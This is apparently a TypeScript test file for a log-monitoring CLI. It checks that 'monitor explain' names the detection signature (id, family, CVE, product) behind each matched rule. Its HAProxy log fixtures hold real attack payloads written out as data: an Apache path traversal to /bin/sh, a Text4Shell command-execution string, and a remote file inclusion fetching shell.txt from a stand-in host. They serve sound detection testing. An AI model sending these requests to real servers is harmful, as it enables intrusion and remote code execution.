/**
 * `monitor explain` names the signature entry behind a signature rule (the
 * built CLI, the shipped rules): for cve-exploits, code-injection, rfi-ssrf,
 * tech-probes and bad-bot-agent the JSON carries `signatures` with the
 * entry's id, family, CVEs (when it has some) and product, and the readable
 * view puts them in brackets after the rule. An operator rule with
 * signatures (`--local`) is named the same way.
 */
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cli } from './run-cli.js';

/** One HAProxy line in the project's format: status, User-Agent and request as given. */
const line = (ip: string, status: number, ua: string, request: string) =>
  `Nov 25 14:00:00 lb haproxy[1]: ${ip}:51234 [25/Nov/2026:14:00:00.123] web app-backend/s1 0/0/1/2/3 ${status} 120 - - ---- 1/1/0/0/0 0/0 {shop.test|${ua}} "${request}"`;

const LINES = [
  line('203.0.113.1', 400, 'curl/8.5.0', 'GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1'),
  line('203.0.113.2', 200, 'curl/8.5.0', 'GET /search?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D HTTP/1.1'),
  line('203.0.113.3', 200, 'curl/8.5.0', 'GET /index.php?page=http://192.0.2.5/shell.txt? HTTP/1.1'),
  line('203.0.113.4', 404, 'curl/8.5.0', 'GET /phpmyadmin/ HTTP/1.1'),
  line('203.0.113.5', 200, 'EmailCollector/1.0', 'GET /contact HTTP/1.1'),
  line('198.51.100.6', 200, 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0', 'GET /about HTTP/1.1'),
];

const OPERATOR_RULE = `rules:
  - name: operator-canary-agent
    description: the operator's own canary scanner agent
    category: recon
    severity: low
    filter:
      kind: http
    signatures:
      - id: canary-scanner
        field: user_agent
        pattern: '^CanaryScan/'
        family: canary
        product: the operator's canary
        source: https://example.com/canary
        match: [CanaryScan/1.0]
    group_by: ip
    condition:
      type: count
      threshold: 1
      window: 1m
`;

interface Explained {
  line: number;
  rules: string[];
  signatures: { rule: string; id: string; family: string; cve?: string[]; product: string }[];
}

let dir: string;
let log: string;
let local: string;
before(() => {
  dir = mkdtempSync(join(tmpdir(), 'hm-cli-explain-sig-'));
  log = join(dir, 'a.log');
  writeFileSync(log, LINES.join('\n') + '\n');
  local = join(dir, 'rules.d');
  mkdirSync(local);
  writeFileSync(join(local, 'canary.yaml'), OPERATOR_RULE);
});
after(() => rmSync(dir, { recursive: true, force: true }));

const explainJson = async (args: string[]): Promise<Explained[]> => {
  const r = await cli(['monitor', 'explain', ...args, '--json']);
  assert.equal(r.code, 0, r.stderr);
  return r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as Explained);
};

describe('monitor explain names the signature entries', () => {
  test('--json: each signature rule with the entry it matched (id, family, CVE, product)', async () => {
    const rows = await explainJson([log]);
    assert.equal(rows.length, LINES.length);
    const of = (n: number, rule: string) => {
      const row = rows[n]!;
      assert.ok(row.rules.includes(rule), `line ${n + 1}: ${rule} not in ${row.rules.join(', ')}`);
      return row.signatures.filter((h) => h.rule === rule);
    };
    assert.deepEqual(of(0, 'cve-exploits'), [{ rule: 'cve-exploits', id: 'apache-path-traversal', family: 'path-traversal', cve: ['CVE-2021-41773', 'CVE-2021-42013'], product: 'Apache HTTP Server 2.4.49 and 2.4.50' }]);
    // A payload can match more than one entry of a rule: each is named, in the rule file's order.
    const inj = of(1, 'code-injection');
    assert.deepEqual(inj[0], { rule: 'code-injection', id: 'text4shell', family: 'expression-language', cve: ['CVE-2022-42889'], product: 'Apache Commons Text' });
    assert.equal(new Set(inj.map((h) => h.id)).size, inj.length);
    assert.deepEqual(of(2, 'rfi-ssrf').map((h) => [h.id, h.family, 'cve' in h]), [['remote-file-inclusion', 'rfi', false]]);
    assert.deepEqual(of(3, 'tech-probes').map((h) => [h.id, h.product]), [['database-admin', 'phpMyAdmin, Adminer, phpPgAdmin']]);
    assert.deepEqual(of(4, 'bad-bot-agent').map((h) => h.id), ['email-harvesters']);
    // Every entry named belongs to a rule the line matched; an ordinary browser line names none.
    for (const r of rows) for (const h of r.signatures) assert.ok(r.rules.includes(h.rule), `${h.rule} named but not matched`);
    assert.deepEqual(rows[5]!.signatures, []);
  });

  test('readable: the entries in brackets after their rule, on the rules line', async () => {
    const r = await cli(['monitor', 'explain', log]);
    assert.equal(r.code, 0, r.stderr);
    const rules = r.stdout.split('\n').filter((l) => l.startsWith('    rules: '));
    assert.equal(rules.length, LINES.length);
    assert.match(rules[0]!, /cve-exploits \[apache-path-traversal: path-traversal, CVE-2021-41773 CVE-2021-42013, Apache HTTP Server 2\.4\.49 and 2\.4\.50\]/);
    assert.match(rules[1]!, /code-injection \[text4shell: expression-language, CVE-2022-42889, /);
    assert.match(rules[2]!, /rfi-ssrf \[remote-file-inclusion: rfi, PHP include\(\) with allow_url_include\]/);
    assert.match(rules[3]!, /tech-probes \[database-admin: /);
    assert.match(rules[4]!, /bad-bot-agent \[email-harvesters: /);
    assert.doesNotMatch(rules[5]!, /\[/);
  });

  test("--local: an operator rule's signature entry is named too", async () => {
    const canary = join(dir, 'canary.log');
    writeFileSync(canary, line('203.0.113.7', 200, 'CanaryScan/1.0', 'GET / HTTP/1.1') + '\n');
    const [row] = await explainJson([canary, '--local', local]);
    assert.deepEqual(row!.signatures, [{ rule: 'operator-canary-agent', id: 'canary-scanner', family: 'canary', product: "the operator's canary" }]);
    // Without the operator's directory the rule is not there, and neither is its entry.
    const [plain] = await explainJson([canary]);
    assert.deepEqual(plain!.signatures, []);
  });
});
